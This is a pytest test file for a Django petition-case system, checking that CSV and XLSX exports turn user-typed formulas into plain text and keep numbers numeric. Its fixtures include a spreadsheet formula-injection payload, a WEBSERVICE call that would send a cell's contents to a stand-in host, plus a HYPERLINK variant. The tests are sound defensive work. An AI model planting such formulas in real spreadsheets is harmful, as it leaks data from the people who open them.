"""Exports: what a petitioner typed is text in the spreadsheet, never a formula."""

import csv
import io
import uuid

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Case
from cases.spreadsheet import safe_cell
from oversight.exports import csv_response, xlsx_response

FORMULA = '=WEBSERVICE("http://x.example/?"&B5)'


@pytest.mark.parametrize("text", [FORMULA, "+86 139", "-1+2", "@SUM(A1)", "\tx", "\r=1+1"])
def test_text_that_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [3, -2, 0, 50.0, -12.5])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_ordinary_text_and_empty_cells_are_unchanged():
    assert (safe_cell("阳光花园垃圾站"), safe_cell("2026-03-02 09:00"), safe_cell(None)) == (
        "阳光花园垃圾站", "2026-03-02 09:00", "")


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_both_writers_write_a_formula_as_text_and_a_number_as_a_number():
    headers, rows = ["=标题", "数量"], [[FORMULA, -3], ["@cmd", 2.5]]
    sheet = _sheet(xlsx_response("t", "=t", headers, rows, note="+note"))
    assert [cell.value for cell in sheet[3]] == ["'=标题", "数量"]
    assert [(cell.value, cell.data_type) for cell in sheet[4]] == [
        ("'" + FORMULA, "s"), (-3, "n")]
    assert sheet["A5"].value == "'@cmd" and sheet["B5"].value == 2.5
    assert (sheet["A1"].value, sheet["A2"].value) == ("'=t", "'+note")
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert _csv(csv_response("t", headers, rows)) == [
        ["'=标题", "数量"], ["'" + FORMULA, "-3"], ["'@cmd", "2.5"]]


def test_an_anonymous_summary_with_a_formula_is_plain_text_in_the_office_exports(client,
                                                                                  world):
    client.post(reverse("intake:public_submit"), {
        "submission_token": str(uuid.uuid4()), "name": "匿名", "phone": "13622223333",
        "summary": FORMULA, "content": "内容"})
    case = Case.objects.get()
    client.force_login(world.supervisor)
    url = reverse("oversight:drilldown") + "?measure=received&export="
    sheet = _sheet(client.get(url + "xlsx"))
    row = next(row for row in sheet.iter_rows(values_only=True) if row[0] == case.number)
    assert "'" + FORMULA in row
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    lines = _csv(client.get(url + "csv"))
    assert "'" + FORMULA in next(line for line in lines if line[0] == case.number)


def test_the_access_log_export_writes_an_uploader_s_file_name_as_text(client, world):
    from cases.models import AccessKind, PersonalDataAccess

    row = PersonalDataAccess.objects.create(username="clerk", kind=AccessKind.ATTACHMENT,
                                            case_number="XF-2026-000001",
                                            detail='=HYPERLINK("http://x.example")')
    client.force_login(world.admin)
    response = client.post(reverse("admin:cases_personaldataaccess_changelist"),
                           {"action": "export_csv", "_selected_action": [row.pk]})
    lines = _csv(response)
    assert lines[1][1:5] == ["clerk", "attachment", "XF-2026-000001",
                             "'" + '=HYPERLINK("http://x.example")']
